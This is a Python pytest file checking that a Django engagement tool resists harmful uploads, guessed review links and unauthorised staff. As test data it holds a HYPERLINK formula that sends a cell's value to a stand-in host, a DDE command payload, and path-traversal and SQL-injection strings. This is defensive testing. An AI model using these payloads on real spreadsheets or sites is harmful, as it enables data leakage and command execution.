"""Files, links, pages and people that mean harm or are only careless."""

import io
from typing import Any

import pytest
import redis
import tablib  # type: ignore[import-untyped]
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pytest_django.fixtures import Settings

from projects import queue
from projects.models import AuditEntry, Comment, Engagement, ReviewLink, Run, SignOff
from tests import moves
from tests.badinput import seen
from tests.practice import Practice
from tests.projects.admin import made
from tests.projects.commandline.scripted import command

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


def test_a_formula_in_a_file_is_kept_as_text_and_leaves_as_text(site: Client) -> None:
    engagement = made.scanned()
    match = engagement.technician_matches.get(name="Cleo Marsh")
    file = _csv(("technician_id", "action", "reason"), (match.technician_id, "skip", FORMULA))
    answer = _import(site, engagement, "technician-matches", "matches.csv", file)
    assert answer.status_code == 302
    match.refresh_from_db()
    assert (match.action, match.reason) == ("skip", FORMULA)
    for format in ("csv", "xlsx"):
        sent = site.get(
            seen.address(engagement, "exchange/technician-matches/"), {"format": format}
        )
        assert "'=HYPERLINK" in _cells(sent.content, format)
        assert "\t=HYPERLINK" not in _cells(sent.content, format)
    listed = site.get("/admin/projects/technicianmatch/").content.decode()
    assert '<a href="http://example.invalid' not in listed


def test_a_formula_where_a_choice_is_meant_changes_nothing(site: Client) -> None:
    engagement = made.scanned()
    match = engagement.technician_matches.get(name="Cleo Marsh")
    other = engagement.technician_matches.get(name="Ben Ito")
    file = _csv(
        ("technician_id", "action"),
        (other.technician_id, "skip"),
        (match.technician_id, "=cmd|' /C calc'!A0"),
    )
    answer = _import(site, engagement, "technician-matches", "matches.csv", file)
    assert answer.status_code == 422
    seen.says(
        seen.text(answer.content), "Nothing was changed.", "3 action", "is not a valid choice"
    )
    other.refresh_from_db()
    assert other.action == "fallback"


@pytest.mark.parametrize(
    ("columns", "said"),
    [
        (("technician", "what to do"), "Unknown column(s) technician, what to do. Known are:"),
        (("action", "reason"), "The column technician_id is missing"),
        (("technician_id", "action", "action"), "The column action is there twice."),
    ],
)
def test_a_workbook_with_wrong_columns_is_refused_by_name(
    site: Client, columns: tuple[str, ...], said: str
) -> None:
    engagement = made.scanned()
    before = AuditEntry.objects.count()
    book = tablib.Dataset(tuple("1" for _ in columns), headers=columns).export("xlsx")
    answer = _import(site, engagement, "technician-matches", "matches.xlsx", book)
    assert answer.status_code == 422
    seen.says(seen.text(answer.content), "Nothing was changed.", "file", said)
    assert AuditEntry.objects.count() == before


def test_a_file_that_only_calls_itself_a_workbook_is_refused(site: Client) -> None:
    engagement = made.scanned()
    answer = _import(site, engagement, "technician-matches", "matches.xlsx", b"PK\x03\x04 no zip")
    assert answer.status_code == 422
    seen.says(seen.text(answer.content), "It cannot be read as XLSX", "Nothing was changed.")


@pytest.mark.parametrize("token", ["a", "0" * 43, "..%2f..%2fadmin", "' OR 1=1 --", "%00"])
def test_a_guessed_link_is_told_what_an_expired_one_is_told(client: Client, token: str) -> None:
    engagement = made.signed()
    _, real = ReviewLink.issue(engagement, "Rita", "anna")
    _, gone = ReviewLink.issue(engagement, "Old", "anna", days=-1)
    guesses = (token, real[:-1], real + "x", real.swapcase(), gone)
    answers = [client.get(f"/review/{guess}/") for guess in guesses]
    answers += [
        client.post(f"/review/{guess}/sign/", {"decision": "accepted"}) for guess in guesses
    ]
    assert {answer.status_code for answer in answers} == {404}
    assert not any(engagement.client_name in answer.content.decode() for answer in answers)
    assert client.get(f"/review/{real}/").status_code == 200
    assert (SignOff.objects.count(), Comment.objects.count()) == (1, 0)


def test_a_page_that_always_comes_cut_off_rests_and_then_fails_by_name(
    practice: Practice, site: Client, settings: Settings
) -> None:
    engagement = moves.connected(practice)
    practice.fault(
        "truncate", vendor="servicetitan", times=1000, match={"path": "/export/customers"}
    )
    settings.BELL_SECONDS = 0
    run = queue.start(engagement, "extract", "anna", here=True)
    assert (run.status, run.resume_at is not None) == ("paused", True)
    seen.says(seen.page(site, engagement), "Paused", "/crm/v2/tenant/8450/export/customers")
    for _ in range(queue.AWAY_LIMIT):
        run.move(Run.Status.PAUSED, to=Run.Status.QUEUED)
        queue.perform(run.pk)
        run.refresh_from_db()
    assert (run.status, run.exit_code) == ("failed", 4)
    seen.says(run.message, "ServiceTitan", "GET", "/export/customers")
    seen.says(seen.page(site, engagement), "Failed", run.message)
    kept = seen.whole_pages(engagement)
    assert kept["customers"] == 0 < kept["technicians"]
    practice.clear_faults()
    answer = command("run", "extract", "--here")
    assert answer.code == 0, answer.error
    assert seen.whole_pages(engagement)["customers"] == 20
    seen.wrote_nothing(practice)


def test_a_second_operator_who_presses_the_same_button_gets_the_same_run(
    site: Client, practice: Practice, live_redis: redis.Redis
) -> None:
    engagement = moves.connected(practice)
    second = Client()
    second.force_login(User.objects.create(username="bert", is_staff=True, is_superuser=True))
    button = seen.address(engagement, "start/extract/")
    (first,), (same,) = seen.press(site, button), seen.press(second, button)
    run = Run.objects.get()
    assert run.started_by == "anna"
    assert first == f"Extract the source: run {run.pk} is started."
    assert same == f"Extract the source: run {run.pk} by anna is under way already."
    assert AuditEntry.objects.filter(action="run started").count() == 1
    answer = command("run", "extract")
    assert answer.code == 0
    assert Run.objects.count() == 1


def test_staff_without_permission_get_403_on_every_page_and_button(client: Client) -> None:
    engagement = made.signed()
    client.force_login(User.objects.create(username="carl", is_staff=True))
    runs, entries = Run.objects.count(), AuditEntry.objects.count()
    for path in ("change/", "live/", "users/", "rollback/", "exchange/mapping-rows/"):
        assert client.get(seen.address(engagement, path)).status_code == 403, path
    run, link = engagement.runs.first(), engagement.review_links.first()
    assert run is not None
    assert link is not None
    for path in (
        "change/",
        "start/extract/",
        "confirm/",
        "rollback/",
        "link/",
        f"link/{link.pk}/revoke/",
        f"run/{run.pk}/cancel/",
        "exchange/mapping-rows/",
    ):
        assert client.post(seen.address(engagement, path)).status_code == 403, path
    refused = client.post(f"/admin/projects/connection/{engagement.source.pk}/check/")
    assert refused.status_code == 403
    seen.says(seen.text(refused.content), "You may not do this", "Nothing was changed")
    assert (Run.objects.count(), AuditEntry.objects.count()) == (runs, entries)


def test_staff_who_may_only_look_see_the_page_without_buttons(client: Client) -> None:
    engagement = made.signed()
    looker = User.objects.create(username="dora", is_staff=True)
    looker.user_permissions.add(Permission.objects.get(codename="view_engagement"))
    client.force_login(looker)
    shown = client.get(seen.address(engagement))
    assert shown.status_code == 200
    assert b"/start/" not in shown.content
    assert client.post(seen.address(engagement, "start/extract/")).status_code == 403


def _csv(*rows: tuple[str, ...]) -> bytes:
    head, *body = rows
    made_of: str = tablib.Dataset(*body, headers=head).export("csv")
    return made_of.encode()


def _cells(content: bytes, format: str) -> str:
    """All cells of a file, each after a tab."""
    read = io.BytesIO(content).read() if format == "xlsx" else content.decode("utf-8-sig")
    sheet = tablib.Dataset().load(read, format=format)
    return "".join(f"\t{cell}" for row in sheet for cell in row)


def _import(site: Client, engagement: Engagement, table: str, name: str, data: bytes) -> Any:
    file = SimpleUploadedFile(name, data)
    address = seen.address(engagement, f"exchange/{table}/")
    return site.post(address, {"file": file, "do": "import"})
